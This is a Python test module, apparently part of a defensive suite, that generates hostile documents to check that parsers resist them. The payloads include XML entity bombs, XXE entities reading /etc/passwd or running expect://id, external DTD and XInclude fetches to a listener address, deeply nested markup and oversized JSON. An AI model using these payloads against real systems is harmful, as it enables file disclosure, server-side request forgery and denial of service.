"""XML, HTML and JSON that grow, nest, loop, or ask for what is elsewhere; bare, and within the formats that are made of it."""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator

from tests.hostile.archives import INSIDES, inside
from tests.hostile.case import Case, Member, deflated

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{LAUGHS}]>'
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY q "{"q" * 50_000}">]>'
LOOP = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SPREAD = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF = "urn:oasis:names:tc:opendocument:xmlns"
OFFICE = f'xmlns:office="{ODF}:office:1.0" xmlns:text="{ODF}:text:1.0"'
# The root of each format's part, with `{}` where its text stands.
ROOTS = {
    ".docx": f"<w:document {W}><w:body><w:p><w:r><w:t>{{}}</w:t></w:r></w:p></w:body></w:document>",
    ".xlsx": f'<sst xmlns="{SPREAD}"><si><t>{{}}</t></si></sst>',
    ".pptx": '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:t>{}</a:t></p:sld>',
    ".odt": f"<office:document-content {OFFICE}><office:body><office:text><text:p>{{}}</text:p></office:text></office:body>"
    "</office:document-content>",
    ".ods": f"<office:document-content {OFFICE}><office:body><text:p>{{}}</text:p></office:body></office:document-content>",
    ".epub": '<package xmlns="http://www.idpf.org/2007/opf"><metadata>{}</metadata></package>',
    ".xml": "<root>{}</root>",
    ".svg": '<svg xmlns="http://www.w3.org/2000/svg"><text>{}</text></svg>',
}  # fmt: skip


def cases(address: str) -> Iterator[Case]:
    """`address` is where somebody listens for connections that must not come."""
    for ending in ROOTS:
        yield from _entities(ending, address)
        yield from _deep(ending)
    yield from _xml(address)
    yield from _word()
    yield from _html(address)
    yield from _json()


def _of(ending: str, xml: str) -> bytes:
    content = xml.encode()
    if ending not in INSIDES:
        return content
    return inside(ending, Member(b"", deflated(content, 1), 8, size=len(content), crc=zlib.crc32(content)))


def _entities(ending: str, address: str) -> Iterator[Case]:
    root = ROOTS[ending]
    yield Case("entity bomb", f"billion{ending}", _of(ending, BILLION + root.format("&l9;")))
    yield Case("entity bomb", f"quadratic{ending}", _of(ending, QUADRATIC + root.format("&q;" * 20_000)))
    yield Case("entity loop", f"loop{ending}", _of(ending, LOOP + root.format("&a;")))
    for number, target in enumerate(("file:///etc/passwd", f"http://{address}/entity", "expect://id", "/dev/zero")):
        dtd = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{target}">]>'
        yield Case("external entity", f"system-{number}{ending}", _of(ending, dtd + root.format("&x;")))
    dtd = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://{address}/p.dtd"> %p;]>'
    yield Case("external entity", f"parameter{ending}", _of(ending, dtd + root.format("text")))


def _deep(ending: str) -> Iterator[Case]:
    for levels in (300, 100_000):
        within = "<a>" * levels + "deep" + "</a>" * levels
        yield Case("deep markup", f"levels-{levels}{ending}", _of(ending, ROOTS[ending].format(within)))


def _xml(address: str) -> Iterator[Case]:
    include = '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>'
    yield Case("include", "xinclude.xml", f'{include}<xi:include href="http://{address}/x"/></r>'.encode())
    sheet = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://{address}/x.xsl"?><r>text</r>'
    yield Case("include", "stylesheet.xml", sheet.encode())
    schema = f'<r xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="a http://{address}/s.xsd">t</r>'
    yield Case("include", "schema.xml", schema.encode())
    attributes = " ".join(f'a{n}="1"' for n in range(200_000))
    yield Case("wide markup", "attributes.xml", f"<r {attributes}/>".encode())
    yield Case("wide markup", "siblings.xml", b"<r>" + b"<a/>" * 1_000_000 + b"</r>", is_heavy=True)
    yield Case("wide markup", "name.xml", b"<" + b"n" * 9_000_000 + b"/>")
    yield Case("wide markup", "namespaces.xml", "".join(f'<a xmlns:n{n}="u{n}">' for n in range(20_000)).encode())


def _word() -> Iterator[Case]:
    root = ROOTS[".docx"].replace("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", "{}")
    table = "<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80
    yield Case("deep tables", "eighty.docx", _of(".docx", root.format(table)))
    many = "<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 400_000
    yield Case("wide markup", "paragraphs.docx", _of(".docx", root.format(many)), is_heavy=True)
    wide = "<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 200_000 + "</w:tr></w:tbl>"
    yield Case("wide table", "cells.docx", _of(".docx", root.format(wide)))
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
    yield Case("claimed size", "span.docx", _of(".docx", root.format(span)))
    numbered = '<w:p><w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="-7"/></w:numPr></w:pPr></w:p>' * 500
    yield Case("claimed size", "list-level.docx", _of(".docx", root.format(numbered)))


def _html(address: str) -> Iterator[Case]:
    for tag in ("div", "table><tr><td", "b", "ul><li", "blockquote", "span"):
        yield Case("deep markup", f"{tag.partition('>')[0]}.html", f"<html><body>{f'<{tag}>' * 60_000}deep".encode())
    yield Case("claimed size", "span.html", b"<table><tr><td colspan=2000000000 rowspan=2000000000>a<td>b</table>")
    rows = b"<tr>" + b"<td rowspan=1000 colspan=1000>a" * 300
    yield Case("claimed size", "spans.html", b"<html><table>" + rows * 300)
    yield Case("wide table", "columns.html", b"<html><table><tr>" + b"<td>a" * 300_000 + b"<tr><td>b</table>")
    yield Case("unclosed markup", "comments.html", b"<html>" + b"<!--" * 500_000)
    yield Case("unclosed markup", "opened.html", b"<html>" + b"<" * 2_000_000)
    yield Case("unclosed markup", "quotes.html", b"<html><a " + b'x="' * 500_000)
    yield Case("unclosed markup", "entities.html", b"<html>" + b"&" * 2_000_000 + b"&#x" * 200_000)
    asks = f'<html><img src="http://{address}/i"><iframe src="http://{address}/f"></iframe><link rel=stylesheet'
    asks += f' href="http://{address}/c"><script src="http://{address}/s"></script><base href="http://{address}/">text'
    yield Case("asks elsewhere", "page.html", asks.encode())
    yield Case("wide markup", "characters.html", ("<html><p>" + "&#55296;&#0;&#x10FFFF;&#x110000;" * 50_000).encode())


def _json() -> Iterator[Case]:
    yield Case("deep json", "lists.json", b"[" * 200_000 + b"]" * 200_000)
    yield Case("deep json", "objects.json", b'{"a":' * 100_000 + b"1" + b"}" * 100_000)
    yield Case("wide json", "number.json", b"[" + b"9" * 2_000_000 + b"]")
    yield Case("wide json", "exponents.json", b'{"a": 1e999999999, "b": -1E-999999999, "c": NaN, "d": Infinity}')
    yield Case("wide json", "keys.json", json.dumps({f"key {n}": n for n in range(300_000)}).encode())
    yield Case("wide json", "surrogates.json", b'{"a": "\\ud800\\udc00\\ud800", "\\u0000": "\\u0000"}')
